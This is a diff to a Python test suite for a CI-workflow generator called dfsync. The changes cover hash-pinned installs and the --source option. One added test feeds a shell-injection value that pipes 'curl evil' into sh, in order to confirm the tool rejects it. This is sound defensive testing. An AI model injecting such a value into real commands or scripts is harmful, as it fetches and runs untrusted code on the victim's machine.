@@ -39,8 +39,9 @@ def test_starter_is_valid_and_in_canonical_style(tmp_path: Path, ci: str, workfl
     """What init writes passes validate without a single finding, and fmt has nothing to change."""
     outcome = dfsync(tmp_path, "init", "--ci", ci)
     assert outcome.code == 0, outcome.err
-    assert written(tmp_path) == ALWAYS | workflow
-    assert outcome.out.splitlines() == [f"wrote {path}" for path in sorted(ALWAYS | workflow)]
+    expected = ALWAYS | workflow | ({"requirements-dfsync.txt"} if workflow else set())
+    assert written(tmp_path) == expected
+    assert outcome.out.splitlines() == [f"wrote {path}" for path in sorted(expected)]
     validated = dfsync(tmp_path, "validate")
     assert validated.code == 0
     assert "No problems" in validated.out + validated.err
@@ -54,7 +55,6 @@ def test_the_workflow_applies_what_is_pushed_to_the_repositorys_own_branch(tmp_p
     def branches(root: Path) -> str:
         outcome = dfsync(root, "init")
         assert outcome.code == 0
-        assert "installs dfsync from github.com/OWNER" in outcome.err
         return yaml.safe_load((root / ".github/workflows/dfsync.yml").read_text())[True]["push"]["branches"]
 
     def git(root: Path, *arguments: str) -> None:
@@ -149,7 +149,42 @@ def test_workflow_installs_this_version(tmp_path: Path, ci: str, file: str) -> N
     """CI runs the version that wrote the workflow."""
     dfsync(tmp_path, "init", "--ci", ci)
     text = (tmp_path / file).read_text(encoding="utf-8")
-    assert text.count(f"/dfsync/archive/refs/tags/v{__version__}.tar.gz") == text.count("pip install")
+    assert text.count(f'"dragonfruit-dfsync=={__version__}"') == text.count("--no-deps") > 0
+    assert text.count("--require-hashes -r requirements-dfsync.txt") == text.count("--no-deps")
+    assert (tmp_path / "requirements-dfsync.txt").read_text(encoding="utf-8").count("--hash=sha256:") > 100
+
+
+@pytest.mark.parametrize(
+    ("source", "installed"),
+    [
+        ("1.2.3", "dragonfruit-dfsync==1.2.3"),
+        ("dragonfruit-dfsync>=1,<2", "dragonfruit-dfsync>=1,<2"),
+        (
+            "https://example.com/dragonfruit_dfsync-1-py3-none-any.whl#sha256=0a",
+            "dragonfruit-dfsync @ https://example.com/dragonfruit_dfsync-1-py3-none-any.whl#sha256=0a",
+        ),
+        ("git+https://example.com/dfsync@v1", "dragonfruit-dfsync @ git+https://example.com/dfsync@v1"),
+        ("vendor/dragonfruit_dfsync-1-py3-none-any.whl", "vendor/dragonfruit_dfsync-1-py3-none-any.whl"),
+    ],
+)
+@pytest.mark.parametrize(("ci", "file"), [("github", ".github/workflows/dfsync.yml"), ("gitlab", ".gitlab-ci.yml")])
+def test_workflow_installs_from_the_source_that_is_named(
+    tmp_path: Path, ci: str, file: str, source: str, installed: str
+) -> None:
+    """`--source` is a version, a requirement, a URL or a path; pip gets it as one argument."""
+    assert dfsync(tmp_path, "init", "--ci", ci, "--source", source).code == 0
+    text = (tmp_path / file).read_text(encoding="utf-8")
+    assert f'--no-deps "{installed}"' in text
+    assert f"dragonfruit-dfsync=={__version__}" not in text
+    assert yaml.safe_load(text)
+
+
+def test_a_source_that_is_shell_is_refused(tmp_path: Path) -> None:
+    """It stands in a script; nothing is written."""
+    outcome = dfsync(tmp_path, "init", "--source", '1"; curl evil | sh; "')
+    assert outcome.code == 1
+    assert "--source" in outcome.err
+    assert written(tmp_path) == set()
 
 
 def test_from_init_to_a_verified_apply(tmp_path: Path) -> None:
